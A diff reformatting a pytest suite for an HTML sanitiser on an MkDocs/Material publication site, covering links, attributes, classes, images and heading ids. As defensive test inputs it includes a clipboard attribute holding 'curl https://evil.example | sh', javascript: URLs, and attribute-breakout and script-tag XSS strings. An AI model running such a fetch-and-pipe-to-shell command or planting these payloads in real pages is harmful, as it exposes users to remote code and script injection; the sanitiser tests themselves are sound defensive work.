@@ -17,9 +17,9 @@ import jinja2
 import markdown
 import material
 import pytest
+from conftest import ROOT
 from mkdocs.structure.toc import get_toc
 
-from conftest import ROOT
 from publication.richtext import FeedHtml, is_safe_anchor, leaves_the_site, sanitise_html
 
 REL = 'rel="noopener noreferrer"'
@@ -32,8 +32,18 @@ def feed_html(text: str) -> str:
 
 # -- links -------------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("href", ["https://evil.example/", "/\\evil.example/", "//evil.example/", "HTTPS://evil.example/",
-                                  "../the-paper/", "#sources"])
+
+@pytest.mark.parametrize(
+    "href",
+    [
+        "https://evil.example/",
+        "/\\evil.example/",
+        "//evil.example/",
+        "HTTPS://evil.example/",
+        "../the-paper/",
+        "#sources",
+    ],
+)
 def test_every_link_keeps_its_address_loses_target_and_opener_and_gets_noopener(href):
     html = f'<p><a href="{href}" target="_blank" rel="opener">the report</a></p>'
     assert sanitise_html(html) == f'<p><a href="{href}" {REL}>the report</a></p>'
@@ -46,50 +56,69 @@ def test_feed_links_lose_target_and_rel_too():
 
 @pytest.mark.parametrize("href", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:x", "data:text/html,x"])
 def test_links_that_run_script_lose_their_address(href):
-    assert sanitise_html(f'<a href="{href}">x</a>') == f'<a {REL}>x</a>'
+    assert sanitise_html(f'<a href="{href}">x</a>') == f"<a {REL}>x</a>"
 
 
 # -- attributes and classes ----------------------------------------------------------------------------------
 
+
 def test_attributes_that_drive_material_or_act_on_the_reader_are_dropped():
-    html = ('<span data-clipboard-text="curl https://evil.example | sh" data-md-component="dialog" role="dialog" '
-            'tabindex="0" hidden style="position:fixed" dir="rtl" aria-hidden="true" accesskey="s" '
-            'contenteditable="true" onclick="x()" lang="cy" title="Croeso">Copy this</span>')
+    html = (
+        '<span data-clipboard-text="curl https://evil.example | sh" data-md-component="dialog" role="dialog" '
+        'tabindex="0" hidden style="position:fixed" dir="rtl" aria-hidden="true" accesskey="s" '
+        'contenteditable="true" onclick="x()" lang="cy" title="Croeso">Copy this</span>'
+    )
     assert sanitise_html(html) == '<span lang="cy" title="Croeso">Copy this</span>'
 
 
 def test_our_own_markup_keeps_what_it_needs():
-    html = ('<table><caption>Per nation</caption><thead><tr><th scope="col">Proposition</th></tr></thead>'
-            '<tbody><tr><th scope="row">3. Local</th><td><a href="#future-can-be-local--wales" '
-            'aria-label="1 for proposition 3 in Wales">1</a></td></tr></tbody></table>'
-            '<h2 id="section_history">History<a class="headerlink" href="#section_history" '
-            'title="Link to this section">&para;</a></h2>'
-            '<div class="admonition warning"><p class="admonition-title">Draft</p><p>Not yet.</p></div>')
+    html = (
+        '<table><caption>Per nation</caption><thead><tr><th scope="col">Proposition</th></tr></thead>'
+        '<tbody><tr><th scope="row">3. Local</th><td><a href="#future-can-be-local--wales" '
+        'aria-label="1 for proposition 3 in Wales">1</a></td></tr></tbody></table>'
+        '<h2 id="section_history">History<a class="headerlink" href="#section_history" '
+        'title="Link to this section">&para;</a></h2>'
+        '<div class="admonition warning"><p class="admonition-title">Draft</p><p>Not yet.</p></div>'
+    )
     assert sanitise_html(html) == html.replace("&para;", "\u00b6").replace('">1</a>', f'" {REL}>1</a>').replace(
-        '">\u00b6</a>', f'" {REL}>\u00b6</a>')
+        '">\u00b6</a>', f'" {REL}>\u00b6</a>'
+    )
 
 
-@pytest.mark.parametrize("markup, expected", [
-    ('<div class="md-dialog md-dialog--active">Session expired</div>', '<div class="">Session expired</div>'),
-    ('<div class="admonition note md-header">Note</div>', '<div class="admonition note">Note</div>'),
-    ('<p class="md-search__overlay admonition-title">Title</p>', '<p class="admonition-title">Title</p>'),
-    ('<span class="md-clipboard md-icon headerlink">x</span>', '<span>x</span>'),
-])
+@pytest.mark.parametrize(
+    "markup, expected",
+    [
+        ('<div class="md-dialog md-dialog--active">Session expired</div>', '<div class="">Session expired</div>'),
+        ('<div class="admonition note md-header">Note</div>', '<div class="admonition note">Note</div>'),
+        ('<p class="md-search__overlay admonition-title">Title</p>', '<p class="admonition-title">Title</p>'),
+        ('<span class="md-clipboard md-icon headerlink">x</span>', "<span>x</span>"),
+    ],
+)
 def test_only_admonition_and_permalink_classes_survive(markup, expected):
     assert sanitise_html(markup) == expected
 
 
 def test_an_admonition_cannot_borrow_a_material_class():
     html = markdown.markdown('!!! md-dialog "Fake"\n    Its text stays.', extensions=["admonition"])
-    assert sanitise_html(html) == ('<div class="admonition">\n<p class="admonition-title">Fake</p>\n'
-                                   '<p>Its text stays.</p>\n</div>')
+    assert sanitise_html(html) == (
+        '<div class="admonition">\n<p class="admonition-title">Fake</p>\n<p>Its text stays.</p>\n</div>'
+    )
 
 
 # -- images --------------------------------------------------------------------------------------------------
 
-ELSEWHERE = ["https://evil.example/a.png", "//evil.example/a.png", "/\\evil.example/a.png", "\\\\evil.example/a.png",
-             " //evil.example/a.png", "\t/\t/evil.example/a.png", "\x01//evil.example/a.png", "HTTPS:evil.example/a.png",
-             "data:image/svg+xml,%3Csvg%3E", "javascript:alert(1)"]
+ELSEWHERE = [
+    "https://evil.example/a.png",
+    "//evil.example/a.png",
+    "/\\evil.example/a.png",
+    "\\\\evil.example/a.png",
+    " //evil.example/a.png",
+    "\t/\t/evil.example/a.png",
+    "\x01//evil.example/a.png",
+    "HTTPS:evil.example/a.png",
+    "data:image/svg+xml,%3Csvg%3E",
+    "javascript:alert(1)",
+]
 
 
 @pytest.mark.parametrize("src", ELSEWHERE)
@@ -106,26 +135,45 @@ def test_an_image_on_the_site_keeps_its_address(src):
 
 
 def test_a_markdown_image_from_another_host_is_dropped_in_a_feed():
-    assert feed_html("![a](https://evil.example/a.png) ![b](HTTPS:evil.example/b.png)") == \
-        '<p><img alt="a"> <img alt="b"></p>'
+    assert (
+        feed_html("![a](https://evil.example/a.png) ![b](HTTPS:evil.example/b.png)")
+        == '<p><img alt="a"> <img alt="b"></p>'
+    )
 
 
 # -- ids --------------------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("anchor, safe", [
-    ("future-can-be-local", True), ("section_history", True), ("future-can-be-local--wales", True), ("A1", True),
-    ("__search", False), ("_1", False), ("-x", False), ('x" onmouseover="alert(1)', False), ("x y", False),
-    ("caf\u00e9", False), ("", False), ("x\n", False),
-])
+
+@pytest.mark.parametrize(
+    "anchor, safe",
+    [
+        ("future-can-be-local", True),
+        ("section_history", True),
+        ("future-can-be-local--wales", True),
+        ("A1", True),
+        ("__search", False),
+        ("_1", False),
+        ("-x", False),
+        ('x" onmouseover="alert(1)', False),
+        ("x y", False),
+        ("caf\u00e9", False),
+        ("", False),
+        ("x\n", False),
+    ],
+)
 def test_a_safe_anchor_is_a_plain_slug(anchor, safe):
     assert is_safe_anchor(anchor) is safe
 
 
 def test_ids_that_are_not_plain_slugs_are_dropped_and_so_are_in_page_links_to_them():
-    html = ('<h2 id="__search">a<a class="headerlink" href="#__search">\u00b6</a></h2>'
-            '<p id=\'x" onmouseover="alert(1)\'>b</p><p id="ok"><a href="#">top</a> <a href="#ok">here</a></p>')
-    assert sanitise_html(html) == (f'<h2>a<a class="headerlink" {REL}>\u00b6</a></h2><p>b</p>'
-                                   f'<p id="ok"><a href="#" {REL}>top</a> <a href="#ok" {REL}>here</a></p>')
+    html = (
+        '<h2 id="__search">a<a class="headerlink" href="#__search">\u00b6</a></h2>'
+        '<p id=\'x" onmouseover="alert(1)\'>b</p><p id="ok"><a href="#">top</a> <a href="#ok">here</a></p>'
+    )
+    assert sanitise_html(html) == (
+        f'<h2>a<a class="headerlink" {REL}>\u00b6</a></h2><p>b</p>'
+        f'<p id="ok"><a href="#" {REL}>top</a> <a href="#ok" {REL}>here</a></p>'
+    )
 
 
 def test_feed_items_carry_no_ids():
@@ -161,8 +209,10 @@ def _page(src_uri: str, generated: bool, text: str = HOSTILE_HEADINGS):
     """A page as MkDocs hands it to on_page_content, its toc made from Python-Markdown's own tokens."""
     md = markdown.Markdown(extensions=["attr_list", "md_in_html", "toc"])
     html = md.convert(text)
-    page = SimpleNamespace(file=SimpleNamespace(src_uri=src_uri, generated_by="publication" if generated else None),
-                           toc=get_toc(md.toc_tokens))
+    page = SimpleNamespace(
+        file=SimpleNamespace(src_uri=src_uri, generated_by="publication" if generated else None),
+        toc=get_toc(md.toc_tokens),
+    )
     return page, html
 
 
@@ -170,8 +220,11 @@ def _sidebar(page) -> str:
     """Material's own partials/toc.html, rendered for `page` as the theme renders it."""
     loader = jinja2.FileSystemLoader(Path(material.__file__).parent / "templates")
     template = jinja2.Environment(loader=loader).get_template("partials/toc.html")
-    return " ".join(template.render(page=page, config=SimpleNamespace(mdx_configs={}),
-                                    lang=SimpleNamespace(t=lambda key: "Table of contents")).split())
+    return " ".join(
+        template.render(
+            page=page, config=SimpleNamespace(mdx_configs={}), lang=SimpleNamespace(t=lambda key: "Table of contents")
+        ).split()
+    )
 
 
 def _entries(toc, depth=0) -> list[tuple[int, str, str]]:
@@ -200,8 +253,10 @@ def test_a_generated_page_keeps_only_plain_slug_entries_with_plain_text_titles()
     sidebar = _sidebar(page)
     assert "onmouseover" not in sidebar and "onfocus" not in sidebar and "onerror" not in sidebar
     assert "__search" not in sidebar
-    assert '<a href="#fish-scriptalert4script-market" class="md-nav__link"> <span class="md-ellipsis"> ' \
-           'Fish &lt;script&gt;alert(4)&lt;/script&gt; market </span>' in sidebar
+    assert (
+        '<a href="#fish-scriptalert4script-market" class="md-nav__link"> <span class="md-ellipsis"> '
+        "Fish &lt;script&gt;alert(4)&lt;/script&gt; market </span>" in sidebar
+    )
 
 
 def test_the_home_page_toc_is_made_safe_and_hand_written_pages_are_left_as_written():
